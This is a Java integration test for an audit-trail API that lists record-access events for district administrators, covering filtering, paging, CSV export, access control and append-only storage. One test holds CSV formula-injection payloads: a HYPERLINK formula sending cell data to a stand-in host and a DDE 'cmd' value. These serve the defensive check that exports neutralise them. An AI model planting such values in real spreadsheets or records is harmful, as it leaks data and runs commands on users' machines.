package org.iepservices.reporting.api;

import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import org.iepservices.access.Role;
import org.iepservices.events.EventEnvelope;
import org.iepservices.events.RecordAccessed;
import org.iepservices.localinfra.RealInfrastructureTestResource;
import org.iepservices.localinfra.TokenIssuer;
import org.iepservices.reporting.testing.EventPublisher;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import javax.sql.DataSource;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.util.List;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.*;
import static org.junit.jupiter.api.Assertions.*;

/**
 * The access trail through Kafka and HTTP: RecordAccessed events published on audit.events (as
 * the other services' outboxes do, duplicates included) are listed for district administrators
 * only, filtered, paged and as CSV; the table refuses changes.
 */
@QuarkusTest
@WithTestResource(value = RealInfrastructureTestResource.class,
        initArgs = @ResourceArg(name = "database", value = "reporting"))
class AccessTrailTest {

    private static final String PATH = "/api/v1/audit/access";

    private final EventPublisher events = new EventPublisher();
    /** Unique per run: the broker and database are shared with the other test classes. */
    private final String provider = "provider-" + UUID.randomUUID();
    private final String teacher = "teacher-" + UUID.randomUUID();
    private final UUID ana = UUID.randomUUID();
    private final UUID ben = UUID.randomUUID();

    @Inject
    DataSource db;

    @AfterEach
    void close() {
        events.close();
    }

    private static RequestSpecification as(String role) {
        return given().auth().oauth2(TokenIssuer.shared().token("user-" + role, role).sign());
    }

    private static RequestSpecification admin() {
        return as(Role.DISTRICT_ADMIN_NAME);
    }

    private EventEnvelope access(String actor, String role, String action, String resource, List<UUID> students,
                                 String purpose, OffsetDateTime at) throws Exception {
        return events.send(RecordAccessed.TYPE, actor, new RecordAccessed(UUID.randomUUID(), actor, role, action,
                "session-service", resource, UUID.randomUUID().toString(), students, purpose, "GET",
                "/api/v1/" + resource, at), at);
    }

    @Test
    void accessesArriveFromTheTopicOnceAndAreListedFilteredPagedAndAsCsv() throws Exception {
        OffsetDateTime sep14 = OffsetDateTime.parse("2026-09-14T14:00:00Z");
        EventEnvelope first = access(provider, "provider", "READ", "session-log", List.of(ana), "annual review",
                sep14);
        access(provider, "provider", "EXPORT", "caseload-report", List.of(ana, ben), null, sep14.plusDays(1));
        EventEnvelope third = access(provider, "provider", "WRITE", "session-log", List.of(ben), null,
                sep14.plusDays(2));
        access(teacher, "teacher", "READ", "push-in-view", List.of(ana), null, sep14.plusDays(3));
        // Redelivery of an event, and the same access published again under a new event id (relay retry).
        events.send(RecordAccessed.TYPE.topic(), first);
        events.send(RecordAccessed.TYPE, provider, third.dataAs(RecordAccessed.TYPE, events.mapper),
                sep14.plusDays(5));

        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> admin().queryParam("studentId", ana.toString())
                .get(PATH).then().statusCode(200).header("X-Total-Count", "3"));

        // Newest first; every field as the event stated it.
        admin().queryParam("actor", provider).get(PATH).then().statusCode(200)
                .header("X-Total-Count", "3")
                .body("action", contains("WRITE", "EXPORT", "READ"))
                .body("[1].studentIds", containsInAnyOrder(ana.toString(), ben.toString()))
                .body("[2].purpose", is("annual review"))
                .body("[2].actorRole", is("provider"))
                .body("[2].service", is("session-service"))
                .body("[2].resourceType", is("session-log"))
                .body("[2].method", is("GET"))
                .body("[2].accessedAt", startsWith("2026-09-14T14:00"));

        // Filters: student, time window (dates are the district's days), both.
        admin().queryParam("studentId", ben.toString()).get(PATH).then().statusCode(200)
                .header("X-Total-Count", "2").body("action", contains("WRITE", "EXPORT"));
        admin().queryParam("actor", provider).queryParam("from", "2026-09-15").queryParam("to", "2026-09-15")
                .get(PATH).then().statusCode(200).header("X-Total-Count", "1").body("[0].action", is("EXPORT"));
        admin().queryParam("studentId", ana.toString()).queryParam("from", "2026-09-15T00:00:00Z").get(PATH).then()
                .statusCode(200).body("actor", contains(teacher, provider));

        // Paging.
        admin().queryParam("actor", provider).queryParam("limit", 1).queryParam("offset", 1).get(PATH).then()
                .statusCode(200).header("X-Total-Count", "3").header("Link", containsString("rel=\"next\""))
                .body("action", contains("EXPORT"));

        // CSV: a header line and one line per access, all of them.
        String csv = admin().accept("text/csv").queryParam("actor", provider).get(PATH).then().statusCode(200)
                .contentType(startsWith("text/csv")).header("X-Total-Count", "3").extract().asString();
        List<String> lines = csv.lines().toList();
        assertEquals(4, lines.size(), csv);
        assertTrue(lines.get(0).startsWith("accessedAt,actor,actorRole,action,"), lines.get(0));
        assertTrue(lines.get(2).contains(ana + " " + ben) || lines.get(2).contains(ben + " " + ana), lines.get(2));
        assertTrue(lines.get(3).contains("annual review"), lines.get(3));
    }

    @Test
    void aPurposeOrActorThatLooksLikeAFormulaIsWrittenAsTextInTheCsv() throws Exception {
        // As session-service records a provider's read sent with this X-Access-Purpose header.
        String formula = "=HYPERLINK(\"http://x\"&A1,\"Open\")";
        String actor = "@" + provider;
        OffsetDateTime at = OffsetDateTime.parse("2026-09-16T14:00:00Z");
        access(actor, "provider", "READ", "session-log", List.of(ana), formula, at);
        access(actor, "-provider", "READ", "session-log", List.of(ana), "+1 review", at.plusMinutes(1));
        access(actor, "provider", "READ", "session-log", List.of(ana), "\tcmd|' /C calc'!A0", at.plusMinutes(2));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> admin().queryParam("actor", actor).get(PATH)
                .then().statusCode(200).header("X-Total-Count", "3"));

        // JSON keeps the values as recorded; only the CSV cells are neutralised.
        admin().queryParam("actor", actor).get(PATH).then().body("[2].purpose", is(formula));
        String csv = admin().accept("text/csv").queryParam("actor", actor).get(PATH).then().statusCode(200)
                .extract().asString();
        List<String> lines = csv.lines().toList();
        assertEquals(4, lines.size(), csv);
        assertTrue(lines.get(3).contains("\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"Open\"\")\""), lines.get(3));
        assertTrue(lines.get(3).contains(",'@" + provider + ","), lines.get(3));
        assertTrue(lines.get(2).contains(",'-provider,") && lines.get(2).contains(",'+1 review,"), lines.get(2));
        assertTrue(lines.get(1).contains("'\tcmd"), lines.get(1));
        for (String line : lines) {
            for (String cell : line.split(",")) {
                String bare = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertFalse(bare.startsWith("=") || bare.startsWith("+") || bare.startsWith("@")
                        || bare.startsWith("\t"), "formula cell " + cell + " in " + line);
            }
        }
    }

    @Test
    void onlyDistrictAdministratorsWithAValidTokenMayRead() {
        given().get(PATH).then().statusCode(401);
        given().auth().oauth2(TokenIssuer.shared().token("admin", Role.DISTRICT_ADMIN_NAME)
                .issuedAt(Instant.now().minus(Duration.ofHours(2)), Duration.ofHours(1)).sign())
                .get(PATH).then().statusCode(401);
        given().auth().oauth2(TokenIssuer.generate().token("admin", Role.DISTRICT_ADMIN_NAME).sign())
                .get(PATH).then().statusCode(401);
        for (String role : List.of(Role.SCHOOL_ADMIN_NAME, Role.PROVIDER_NAME, Role.TEACHER_NAME,
                Role.SIS_INTEGRATION_NAME)) {
            as(role).get(PATH).then().statusCode(403);
            as(role).accept("text/csv").get(PATH).then().statusCode(403);
        }
        admin().get(PATH).then().statusCode(200);
    }

    @Test
    void badParametersAreAllListed() {
        admin().queryParam("studentId", "ana").queryParam("from", "yesterday").queryParam("to", "2026-13-01")
                .queryParam("limit", 0).queryParam("offset", -1).get(PATH).then().statusCode(400)
                .contentType("application/problem+json")
                .body("violations.field", containsInAnyOrder("studentId", "from", "to", "limit", "offset"));
        admin().queryParam("from", "2026-09-20").queryParam("to", "2026-09-14").get(PATH).then().statusCode(400)
                .body("violations.field", contains("to"));
    }

    @Test
    void theTrailIsAppendOnly() throws Exception {
        access(provider, "provider", "READ", "iep", List.of(ana), null, OffsetDateTime.parse("2026-09-20T12:00:00Z"));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> admin().queryParam("actor", provider)
                .get(PATH).then().statusCode(200).header("X-Total-Count", "1"));
        try (Connection c = db.getConnection(); Statement st = c.createStatement()) {
            assertThrows(SQLException.class, () -> st.executeUpdate(
                    "update access_record set actor = 'someone else' where actor = '" + provider + "'"));
            assertThrows(SQLException.class, () -> st.executeUpdate(
                    "delete from access_record where actor = '" + provider + "'"));
            assertThrows(SQLException.class, () -> st.execute("truncate access_record"));
        }
        admin().queryParam("actor", provider).get(PATH).then().statusCode(200).header("X-Total-Count", "1")
                .body("[0].actor", is(provider));
    }
}
